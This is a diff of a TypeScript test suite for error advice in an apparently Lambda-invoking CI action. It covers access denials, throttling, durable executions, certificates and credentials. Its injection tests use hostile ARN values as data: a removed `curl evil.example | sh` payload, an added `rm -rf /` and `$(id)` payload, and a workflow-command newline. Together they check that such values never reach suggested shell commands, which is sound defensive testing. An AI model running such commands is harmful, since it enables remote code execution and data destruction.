@@ -5,7 +5,8 @@ import { adviseOn, type JobFacts } from '../../../src/outcome/advice.ts';
 import { failure, invocation, REQUEST_ID } from './factory.ts';
 
 const PUSH: JobFacts = { eventName: 'push', hasOidc: false };
-const FORK = 'A pull request from a fork has neither secrets nor an OIDC token.';
+const FORK = 'A pull request from a fork has no secrets and no OIDC token.';
+const FIX = 'Fix the problem above and re-run the job.';
 const PERMISSION = 'permissions:\n  id-token: write\n';
 const SENT_AT = new Date('2026-01-02T03:04:05.678Z');
 
@@ -32,12 +33,12 @@ describe('advice', () => {
   );
 
   test.each([
-    ['RegionMissing', 'Set the input region, or AWS_REGION'],
-    ['AccessDeniedException', 'function:NAME and function:NAME:*'],
+    ['RegionMissing', 'Set the input region or AWS_REGION'],
+    ['AccessDeniedException', 'on both ARNs, with and without it'],
     ['ExpiredTokenException', 'role-duration-seconds'],
     ['UnrecognizedClientException', 'does not know this access key'],
     ['InvalidSignatureException', 'AWS_SECRET_ACCESS_KEY'],
-    ['ResourceNotFoundException', 'Check the name, the qualifier, the region and the account'],
+    ['ResourceNotFoundException', "Check the function's name, qualifier and region, and the account"],
     ['ResourceConflictException', 'is being created or updated'],
     ['CodeArtifactUserPendingException', 'waking up'],
     ['KMSDisabledException', 'KMS key'],
@@ -59,40 +60,25 @@ describe('advice', () => {
     expect(advice).toContain('max_concurrency');
   });
 
-  test('on a denial tells a missing allow from an explicit deny', () => {
-    const name = 'AccessDeniedException';
-    const deny = advise({
-      name,
-      message: 'not authorized … with an explicit deny in a service control policy',
-    });
-    expect(deny).toContain('Change the deny');
-    expect(deny).not.toContain('Allow lambda:InvokeFunction');
-    expect(advise({ name, message: 'because no identity-based policy allows it' })).toContain(
-      'Allow lambda:InvokeFunction',
-    );
-  });
-
   test.each([
-    ['ReservedFunctionConcurrentInvocationLimitExceeded', 'The function’s own reserved concurrency'],
-    ['ReservedFunctionInvocationRateLimitExceeded', 'The function’s own reserved concurrency'],
-    ['ConcurrentInvocationLimitExceeded', 'The account’s concurrency'],
-    ['CallerRateLimitExceeded', 'The account’s concurrency'],
-    [undefined, 'The account’s concurrency'],
+    ['ReservedFunctionConcurrentInvocationLimitExceeded', "The function's own reserved concurrency"],
+    ['ReservedFunctionInvocationRateLimitExceeded', "The function's own reserved concurrency"],
+    ['ConcurrentInvocationLimitExceeded', "The account's concurrency"],
+    ['CallerRateLimitExceeded', "The account's concurrency"],
+    [undefined, "The account's concurrency"],
   ])('on a throttle by %s says whose limit it is', (reason, essential) => {
     const name = 'TooManyRequestsException';
     expect(advise({ name, ...(reason !== undefined && { reason }) })).toContain(essential);
   });
 
   test('on an unknown refusal points to its message', () => {
-    expect(advise({ name: 'NewException', statusCode: 400 })).toBe(
-      'Mend what the message says and run the job again.',
-    );
+    expect(advise({ name: 'NewException', statusCode: 400 })).toBe(FIX);
   });
 
   test('after a failure that may have run warns of running it twice, and links to its log', () => {
     const advice = advise({ name: 'NewException', proof: 'may_have_run', requestId: REQUEST_ID });
     expect(advice).toMatch(
-      new RegExp(`^Look at the function’s log before you run this again: https://\\S+${REQUEST_ID}\\S+\\n`),
+      new RegExp(`^Check the function's log before you retry: https://\\S+${REQUEST_ID}\\S+\\n`),
     );
     expect(advice).toContain('retry: idempotent');
   });
@@ -109,21 +95,21 @@ describe('advice', () => {
 
   test('after a failure of the function’s own code says that it ran', () => {
     const advice = advise({ name: 'EFSIOException', proof: 'ran', requestId: REQUEST_ID });
-    expect(advice).toMatch(/^The function’s own code ran\. Look at its log: https:\S+$/);
+    expect(advice).toMatch(/^The function's own code ran\. Check its log: https:\S+$/);
     expect(advice).not.toContain('idempotent');
   });
 
-  test('on a connection that never stood names what decides where it goes', () => {
+  test('on a connection that failed names what decides where it goes', () => {
     expect(adviseUnanswered({ name: 'ECONNREFUSED' })).toBe(
-      'Check the region, AWS_ENDPOINT_URL_LAMBDA and the network of the runner.',
+      "Check the region, AWS_ENDPOINT_URL_LAMBDA and the runner's network.",
     );
     expect(adviseUnanswered({ name: 'ECONNREFUSED', throughProxy: true })).toBe(
-      'Check the proxy of HTTPS_PROXY or HTTP_PROXY; NO_PROXY leaves it out.',
+      'Check the proxy in HTTPS_PROXY or HTTP_PROXY. To bypass it, add the host to NO_PROXY.',
     );
   });
 
   test.each(['constructor', 'toString'])('on an error that is called %s is a text', (name) => {
-    expect(advise({ name })).toBe('Mend what the message says and run the job again.');
+    expect(advise({ name })).toBe(FIX);
   });
 });
 
@@ -158,7 +144,7 @@ describe.each(['CredentialsProviderError', 'TokenProviderError', 'MissingAuthent
   },
 );
 
-describe('advice on a denial of something beside invoking', () => {
+describe('advice on a denial of something other than invoking', () => {
   const ARN = 'arn:aws:lambda:eu-west-1:123456789012:function:my-function';
   const denied = (action: string, resource = ARN): string =>
     `User: arn:aws:sts::123456789012:assumed-role/deploy/x is not authorized to perform: ${action} on resource: ${resource} because no identity-based policy allows the ${action} action`;
@@ -168,7 +154,7 @@ describe('advice on a denial of something beside invoking', () => {
   test('has the statement to add', () => {
     const message = denied('lambda:GetFunctionConfiguration', `${ARN}:live`);
     expect(advise({ name: 'AccessDeniedException', message }).split('\n')).toEqual([
-      'Allow lambda:GetFunctionConfiguration on the function for the role: add this statement to its policy:',
+      "Allow lambda:GetFunctionConfiguration on the function in the caller's policy. Add this statement:",
       statement('lambda:GetFunctionConfiguration'),
     ]);
   });
@@ -176,7 +162,7 @@ describe('advice on a denial of something beside invoking', () => {
   test('names the action where the message names no function', () => {
     const message = denied('lambda:GetFunctionConfiguration', 'x');
     expect(advise({ name: 'AccessDeniedException', message })).toBe(
-      'Allow lambda:GetFunctionConfiguration on the function for the role.',
+      "Allow lambda:GetFunctionConfiguration on the function in the caller's policy.",
     );
   });
 
@@ -192,7 +178,10 @@ describe('advice on a denial of something beside invoking', () => {
 
 describe('advice on a durable function', () => {
   test.each([
-    ['You cannot invoke a durable function using an unqualified ARN.', 'its version or alias'],
+    [
+      'You cannot invoke a durable function using an unqualified ARN.',
+      'set qualifier to its version or alias',
+    ],
     [
       'You cannot synchronously invoke a durable function with an executionTimeout greater than 15 minutes.',
       'invocation_type: Event',
@@ -201,36 +190,201 @@ describe('advice on a durable function', () => {
     expect(advise({ name: 'InvalidParameterValueException', message })).toContain(essential);
   });
 
-  const EXECUTION =
-    'arn:aws:lambda:eu-west-1:123456789012:function:my-function:$LATEST/durable-execution/a/b';
+  const ARN = 'arn:aws:lambda:eu-west-1:123456789012:function:orders:$LATEST/durable-execution/order-7/id';
+  const lost = (durableExecutionArn: string, durableExecutionName?: string): string =>
+    adviseOn({
+      failure: failure({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn }),
+      invocation: invocation(durableExecutionName === undefined ? {} : { durableExecutionName }),
+      region: 'eu-west-1',
+      job: PUSH,
+    });
 
-  test('has commands with the ARN in quotes, since a shell would take $LATEST for a variable', () => {
-    const advice = advise({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn: EXECUTION });
-    expect(advice).toContain(`aws lambda get-durable-execution --durable-execution-arn '${EXECUTION}'\n`);
-    expect(advice).toMatch(/stop-durable-execution .* '[^']+'$/);
+  test('that goes on by itself says how to see its end, join it and stop it', () => {
+    expect(lost(ARN, 'order-7').split('\n')).toEqual([
+      `To see how it ends: aws lambda get-durable-execution --durable-execution-arn '${ARN}'`,
+      'Run this step again with the same durable_execution_name and payload to join it.',
+      `To stop it: aws lambda stop-durable-execution --durable-execution-arn '${ARN}'`,
+    ]);
+    expect(lost(ARN)).toContain('With a durable_execution_name');
+  });
+
+  test.each(['arn:durable', `${ARN}'; rm -rf /'`, `${ARN} $(id)`, `${ARN}\n::error::x`, ''])(
+    'puts no ARN into a command that is none: %j',
+    (arn) => {
+      expect(lost(arn, 'order-7').split('\n')).toEqual([
+        'See how the execution ends in the Lambda console.',
+        'Run this step again with the same durable_execution_name and payload to join it.',
+      ]);
+    },
+  );
+});
+
+describe('advice on a denied invocation', () => {
+  const ARN = 'arn:aws:lambda:eu-west-1:123456789012:function:my-function';
+  const denied = (reason: string, arn = ARN): string =>
+    advise({
+      name: 'AccessDeniedException',
+      message: `User: arn:aws:sts::123456789012:assumed-role/deploy/x is not authorized to perform: lambda:InvokeFunction on resource: ${arn}${reason}`,
+    });
+  const none = (policy: string): string => ` because no ${policy} allows the lambda:InvokeFunction action`;
+
+  test('that no identity-based policy allows is the statement to add', () => {
+    expect(denied(none('identity-based policy')).split('\n')).toEqual([
+      "Add this statement to the caller's policy:",
+      `{"Effect":"Allow","Action":"lambda:InvokeFunction","Resource":["${ARN}"]}`,
+    ]);
   });
 
   test.each([
-    `${EXECUTION}'; curl evil.example | sh; '`,
-    `${EXECUTION}\n`,
-    `${EXECUTION} $(id)`,
-    'arn:durable',
-    '',
-  ])('has no command with an ARN that is not of the form of AWS: %j', (durableExecutionArn) => {
-    const advice = advise({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn });
-    expect(advice).not.toContain('aws lambda');
-    expect(advice).not.toContain('durable-execution-arn');
-    expect(advice).toContain('See how the execution ends in the Lambda console.');
+    ['VPC endpoint policy', 'A VPC endpoint policy', "the VPC endpoint for Lambda in the runner's network"],
+    ['permissions boundary', 'A permissions boundary', 'the permissions boundary of the role or user'],
+    ['session policy', 'A session policy', 'inline-session-policy and managed-session-policies'],
+    [
+      'service control policy',
+      'A service control policy',
+      "service control policies of the caller's account",
+    ],
+    [
+      'resource control policy',
+      'A resource control policy',
+      "resource control policies of the function's account",
+    ],
+  ])('that no %s allows names that policy, and adds nothing elsewhere', (policy, named, where) => {
+    const advice = denied(none(policy));
+    expect(advice).toContain(`${named} does not allow it.`);
+    expect(advice).toContain('allow lambda:InvokeFunction in it too.');
+    expect(advice).toContain(where);
+    expect(advice).not.toContain('statement');
   });
 
-  test('that goes on by itself says how to join it', () => {
-    const durableExecutionArn = 'arn:durable';
-    const lost = failure({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn });
-    const named = invocation({ durableExecutionName: 'order-7' });
-    const the = { failure: lost, region: 'eu-west-1', job: PUSH };
-    expect(adviseOn({ ...the, invocation: named })).toContain(
-      'Run this step again with the same durable_execution_name and payload to join it.',
-    );
-    expect(adviseOn({ ...the, invocation: invocation() })).toContain('With a durable_execution_name');
+  test.each([
+    ['in an identity-based policy', 'An identity-based policy explicitly denies it.'],
+    ['in a VPC endpoint policy', 'A VPC endpoint policy explicitly denies it.'],
+    ['', 'A policy explicitly denies it.'],
+  ])('with an explicit deny %s says that no Allow helps', (where, named) => {
+    const advice = denied(` with an explicit deny ${where}`.trimEnd());
+    expect(advice).toContain(`${named} An Allow cannot override a Deny: change the Deny.`);
+    expect(advice).not.toContain('statement');
   });
+
+  test('that no resource-based policy of another account allows has the command for its owner', () => {
+    const theirs = ARN.replace('123456789012', '210987654321');
+    const advice = denied(none('resource-based policy'), theirs);
+    expect(advice).toContain('The owner of the function runs:\naws lambda add-permission ');
+    expect(advice).toContain(`"Resource":["${theirs}"]`);
+  });
+
+  test('that no resource-based policy of the own account allows says that the statement is enough', () => {
+    expect(denied(none('resource-based policy'))).toContain(
+      'no resource-based policy allows it. Within one account the statement for the caller is enough.',
+    );
+  });
+
+  test('without a reason names every policy that can be in the way', () => {
+    const advice = advise({ name: 'AccessDeniedException', message: 'AWS gave no reason' });
+    expect(advice).toMatch(/Allow lambda:InvokeFunction on it.*VPC endpoint policy.*permissions boundary/);
+  });
+
+  test.each([
+    ['kms:Decrypt', "Allow kms:Decrypt in the caller's policy."],
+    [
+      'lambda:GetFunctionConfiguration',
+      'A VPC endpoint policy does not allow it. Such a policy limits what all others allow: allow lambda:GetFunctionConfiguration in it too.',
+    ],
+  ])('that is one of %s is not taken for one of the invocation', (action, essential) => {
+    const reason = action.startsWith('kms') ? '' : none('VPC endpoint policy');
+    const message = `User: x is not authorized to perform: ${action} on resource: ${ARN}${reason}`;
+    expect(advise({ name: 'AccessDeniedException', message })).toContain(essential);
+  });
+
+  test('is never empty', () => {
+    const message = 'x is Not Authorized to perform: ???';
+    expect(advise({ name: 'AccessDeniedException', message })).toBe(FIX);
+  });
+});
+
+describe("advice on a function's state", () => {
+  const conflict = (state: string): string =>
+    advise({
+      name: 'ResourceConflictException',
+      message: `The operation cannot be performed at this time. The function is currently in the following state: ${state}`,
+    });
+
+  test.each(['Failed', "'Failed'"])('%s does not advise to wait', (state) => {
+    expect(conflict(state)).toContain('is in state Failed');
+    expect(conflict(state)).toContain('StateReason');
+    expect(conflict(state)).not.toMatch(/wait/i);
+  });
+
+  test.each(['Pending', "'Pending'"])('%s advises to wait', (state) => {
+    expect(conflict(state)).toContain('wait_until_ready: true');
+  });
+});
+
+describe('advice on a certificate', () => {
+  const UNTRUSTED = [
+    'DEPTH_ZERO_SELF_SIGNED_CERT',
+    'SELF_SIGNED_CERT_IN_CHAIN',
+    'UNABLE_TO_GET_ISSUER_CERT',
+    'UNABLE_TO_GET_ISSUER_CERT_LOCALLY',
+    'UNABLE_TO_VERIFY_LEAF_SIGNATURE',
+  ];
+
+  test.each(UNTRUSTED)('that is not trusted (%s) names NODE_EXTRA_CA_CERTS, through a proxy too', (name) => {
+    for (const throughProxy of [false, true]) {
+      expect(adviseUnanswered({ name, throughProxy })).toContain('Set NODE_EXTRA_CA_CERTS to the path');
+    }
+  });
+
+  test.each([
+    ['CERT_HAS_EXPIRED', 'expired'],
+    ['CERT_NOT_YET_VALID', 'not valid yet'],
+    ['ERR_TLS_CERT_ALTNAME_INVALID', 'another host name'],
+  ])('that is wrong in another way (%s) does not', (name, essential) => {
+    expect(adviseUnanswered({ name })).toContain(essential);
+    expect(adviseUnanswered({ name })).not.toContain('NODE_EXTRA_CA_CERTS');
+  });
+});
+
+describe('advice on credentials that could not be fetched', () => {
+  test.each([
+    ['STS (AssumeRoleWithWebIdentity): connect ECONNREFUSED 10.0.0.1:443', 'VPC endpoint for STS'],
+    ['STS (AssumeRole): self-signed certificate in certificate chain', 'NODE_EXTRA_CA_CERTS'],
+    ['STS (AssumeRoleWithWebIdentity): AccessDenied: Not authorized', "the role's trust policy"],
+    ['STS (AssumeRole): AccessDenied: Not authorized', 'sts:AssumeRole on the role'],
+    ['credential_process: the command failed', 'Run the command'],
+    ['the container credentials endpoint: Server responded with status: 403', 'AWS_CONTAINER_CREDENTIALS_'],
+    ['the web identity token file: ENOENT', 'AWS_WEB_IDENTITY_TOKEN_FILE'],
+    ['IAM Identity Center: The SSO session has expired', 'aws sso login'],
+    ['the AWS profile: Could not resolve', 'AWS_PROFILE'],
+    ['nowhere: x', 'Check where the runner gets'],
+  ])('from %s', (source, essential) => {
+    const message = `Could not get credentials from ${source}`;
+    expect(adviseUnanswered({ name: 'CredentialsUnavailable', message })).toContain(essential);
+  });
+});
+
+test("on an answer that is not Lambda's points to what is between", () => {
+  expect(advise({ name: 'HTTP 403', statusCode: 403 })).toBe(
+    'Check AWS_ENDPOINT_URL_LAMBDA, and the proxy or firewall between the runner and Lambda.',
+  );
+});
+
+test.each([
+  'arn:aws:lambda:eu-west-1:123456789012:function:a',
+  'not authorized to perform: a',
+  'not authorized to perform: lambda:A',
+  'User: arn:aws:iam::123456789012:user/a/',
+  'because no a ',
+  'explicit deny in a ',
+  'arn:aws:iam::123456789012:policy/a',
+  'following state: ',
+])('on a denial or a conflict of 6 MB of "%s" is found at once', (part) => {
+  const message = part.repeat(6_000_000 / part.length);
+  const before = performance.now();
+  for (const name of ['AccessDeniedException', 'ResourceConflictException', 'CredentialsUnavailable']) {
+    expect(advise({ name, message })).not.toBe('');
+    expect(advise({ name, message: `is not authorized to perform: kms:A on ${message}` })).not.toBe('');
+  }
+  expect(performance.now() - before).toBeLessThan(5_000);
 });
